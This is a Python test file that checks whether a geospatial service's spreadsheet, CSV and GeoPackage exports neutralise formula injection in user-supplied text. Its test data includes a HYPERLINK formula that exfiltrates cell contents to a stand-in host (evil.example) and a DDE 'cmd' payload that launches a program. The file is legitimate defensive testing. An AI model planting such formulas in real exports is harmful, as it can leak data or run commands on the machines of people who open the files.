"""Spreadsheet formula injection (issue 13 §5): text from users stays text in every export —
roster.xlsx, the 通报 workbook, the roster template, CSV and GeoPackage. Read back with
openpyxl (no cell of type 'f') and as CSV (a leading apostrophe); numbers, negative ones
too, stay numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import text

from geoservice.catalogue.importers import read_features
from geoservice.ranking import report
from geoservice.ranking.periods import week_period
from geoservice.registry import layers
from geoservice.spreadsheet_text import formula_like, text_value
from tests.api_support import auth, insert_place
from tests.factories import LAYERS
from tests.ranking_case import TZ, build
from tests.test_api_read import attrs_for
from tests.world import bearer, build_world

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
EVIL = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def cells(wb):
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_no_formula(wb, expected: list[str]) -> None:
    all_cells = cells(wb)
    formulas = [(c.coordinate, c.value) for c in all_cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value: c for c in all_cells if isinstance(c.value, str)}
    for value in expected:
        assert value in texts, value
        assert texts[value].data_type == "s" and texts[value].quotePrefix, value


def test_the_roster_export_writes_formula_like_text_as_text(app, client, db_session):
    world = build_world(db_session, layers(app))
    leaders = list(world["leaders"].values())
    db_session.execute(
        text("UPDATE leaders SET title = :t WHERE id = :id"), {"t": HYPERLINK, "id": leaders[0]}
    )
    db_session.execute(
        text("UPDATE leaders SET name = :n WHERE id = :id"), {"n": EVIL[1], "id": leaders[1]}
    )
    unit = db_session.execute(
        text("INSERT INTO units (name) VALUES (:n) RETURNING id"), {"n": EVIL[3]}
    ).scalar_one()
    db_session.execute(text("UPDATE leaders SET unit_id = :u"), {"u": unit})
    db_session.execute(
        text("UPDATE places SET name = :n WHERE id = :id"),
        {"n": EVIL[2], "id": world["places"]["R1"]},
    )
    db_session.execute(text("UPDATE assignments SET note = :n"), {"n": EVIL[4]})
    response = client.get("/api/roster.xlsx", headers=bearer(world["tokens"]["admin"]))
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.data))
    assert_no_formula(wb, [HYPERLINK, EVIL[1], EVIL[2], EVIL[3], EVIL[4]])
    sequence = [c for c in cells(wb) if c.column == 1 and c.row > 3 and c.value is not None]
    assert sequence and all(c.data_type == "n" for c in sequence)  # 序号 stays a number


def test_the_ranking_workbook_writes_formula_like_text_as_text(db_session):
    build(db_session)
    db_session.execute(text("UPDATE leaders SET title = :t"), {"t": HYPERLINK})
    first = db_session.execute(text("SELECT min(id) FROM leaders")).scalar_one()
    db_session.execute(
        text("UPDATE leaders SET name = :n WHERE id = :id"), {"n": EVIL[2], "id": first}
    )
    db_session.execute(text("UPDATE units SET name = '@' || name"))
    db_session.execute(text("UPDATE issues SET description = :d"), {"d": EVIL[1]})
    wb = report.weekly_workbook(db_session, LAYERS, week_period(2026, 47, TZ))
    buffer = io.BytesIO()
    wb.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue()))
    assert_no_formula(read, [HYPERLINK, EVIL[2], EVIL[1]])
    assert any(c.value.startswith("@") for c in cells(read) if isinstance(c.value, str))
    scores = [
        row[4] for row in read["包保领导排名"].iter_rows(min_row=2) if row[4].value is not None
    ]
    assert scores and all(c.data_type == "n" for c in scores)


def test_the_roster_template_has_no_formulas(app, client, db_session):
    viewer = auth(db_session, "viewer")
    response = client.get("/api/roster/template.xlsx", headers=viewer)
    assert response.status_code == 200
    assert_no_formula(load_workbook(io.BytesIO(response.data)), [])


def _integer_layer(app):
    return next(
        (s, a.name) for s in layers(app) for a in s.attributes if a.type is int and not a.required
    )


def test_csv_and_geopackage_exports_prefix_formula_like_text(app, client, db_session, tmp_path):
    spec, number = _integer_layer(app)
    viewer = auth(db_session, "viewer")
    wkt = {
        "Polygon": "MULTIPOLYGON(((120.1 33.7, 120.2 33.7, 120.2 33.8, 120.1 33.7)))",
        "LineString": "MULTILINESTRING((120.1 33.7, 120.2 33.71))",
        "Point": "POINT(120.1 33.7)",
    }
    geometry = next(v for k, v in wkt.items() if any(k in t for t in spec.geometry_types))
    for i, name in enumerate(EVIL):
        insert_place(db_session, spec, f"F{i}", name, geometry, **attrs_for(spec), **{number: -5})
    base = f"/api/collections/{spec.collection}/export"

    response = client.get(f"{base}?f=csv", headers=viewer)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert sorted(r["name"] for r in rows) == sorted("'" + v for v in EVIL)
    assert {r[number] for r in rows} == {"-5"}  # a number, written as a number

    gpkg = tmp_path / "out.gpkg"
    gpkg.write_bytes(client.get(f"{base}?f=gpkg", headers=viewer).get_data())
    features = read_features(gpkg).features
    assert sorted(f.properties["name"] for f in features) == sorted("'" + v for v in EVIL)
    assert {f.properties[number] for f in features} == {-5}


def test_text_value_changes_only_formula_like_strings():
    assert [text_value(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
    ]
    assert [text_value(v) for v in (-1, -2.5, None, True, "人民路", "1-2", "")] == [
        -1,
        -2.5,
        None,
        True,
        "人民路",
        "1-2",
        "",
    ]
    assert not formula_like(-3)
